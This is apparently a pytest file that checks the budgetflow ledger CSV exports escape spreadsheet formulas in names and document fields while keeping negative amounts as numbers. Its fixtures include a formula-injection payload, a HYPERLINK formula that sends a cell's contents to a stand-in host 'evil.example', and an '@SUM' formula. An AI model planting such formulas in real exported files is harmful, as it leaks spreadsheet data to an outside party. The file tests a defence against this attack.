"""``budgetflow ledger balances --csv`` and ``ledger reservations --csv``: spreadsheet-safe exports.

Names come from master data and documents from flows, so either may be a formula; in the CSV they
are text, while amounts, negative ones included, stay numbers. SQLite, and PostgreSQL when configured.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from sqlalchemy import select

from engine.domain.money import Money
from engine.persistence.tables import BudgetLine
from engine.services import ledger
from engine.services.masterdata.importing import import_master_data
from tests.test_masterdata import edit, write_folder
from tests.test_masterdata_import import run_cli

FORMULA_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"报销")'
FORMULA_DOCUMENT = "@SUM(1)"


def seeded(container, tmp_path) -> int:
    """BASE with a formula for an org unit's and a cost center's name, and an overspent WARN line."""
    units = edit("org_units.csv", "OPS,运营部", f'OPS,"{FORMULA_UNIT.replace(chr(34), chr(34) * 2)}"')
    centers = edit("cost_centers.csv", "CC-OPS,运营成本中心", "CC-OPS,－1 成本中心")
    import_master_data(write_folder(tmp_path, org_units_csv=units, cost_centers_csv=centers),
                       container.masterdata_store)
    with container.session_factory() as s:
        warn_line = s.scalar(select(BudgetLine.id).where(BudgetLine.line_key == "2026-Q1/CC:CC-OPS/TRAVEL"))
    ledger.reserve(container.uow, line_id=warn_line, amount=Money.of("800.00", "CNY"), key="csv-test-1",
                   document=FORMULA_DOCUMENT)
    return warn_line


def read_csv(stdout: str) -> list[dict[str, str]]:
    assert stdout.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(stdout[1:], newline="")))


def test_balances_csv_escapes_formula_names_and_keeps_negative_amounts_numbers(container, cli_env, tmp_path):
    seeded(container, tmp_path)

    result = run_cli(cli_env, "ledger", "balances", "--csv")

    assert result.returncode == 0, result.stderr
    rows = {row["budget_line"]: row for row in read_csv(result.stdout)}
    assert rows["2026/ORG:OPS/TRAVEL"]["holder"] == "'" + FORMULA_UNIT
    overspent = rows["2026-Q1/CC:CC-OPS/TRAVEL"]
    assert overspent["holder"] == "'－1 成本中心" and overspent["subject"] == "差旅费"
    assert (overspent["budget"], overspent["reserved"], overspent["available"]) == ("500.00", "800.00", "-300.00")
    assert Decimal(overspent["available"]) == Decimal("-300")


def test_reservations_csv_escapes_a_formula_document(container, cli_env, tmp_path):
    seeded(container, tmp_path)

    result = run_cli(cli_env, "ledger", "reservations", "--csv")

    assert result.returncode == 0, result.stderr
    (row,) = read_csv(result.stdout)
    assert row["document"] == "'" + FORMULA_DOCUMENT
    assert (row["budget_line"], row["currency"], row["amount"], row["remaining"], row["age_days"]) == (
        "2026-Q1/CC:CC-OPS/TRAVEL", "CNY", "800.00", "800.00", "0")
    assert row["flow"] == "" and row["created_at"].startswith("20")


def test_without_csv_the_tables_are_printed_as_before(container, cli_env, tmp_path):
    seeded(container, tmp_path)
    result = run_cli(cli_env, "ledger", "balances")
    assert result.returncode == 0 and result.stdout.startswith("budget line")
    assert "-300.00 CNY" in result.stdout
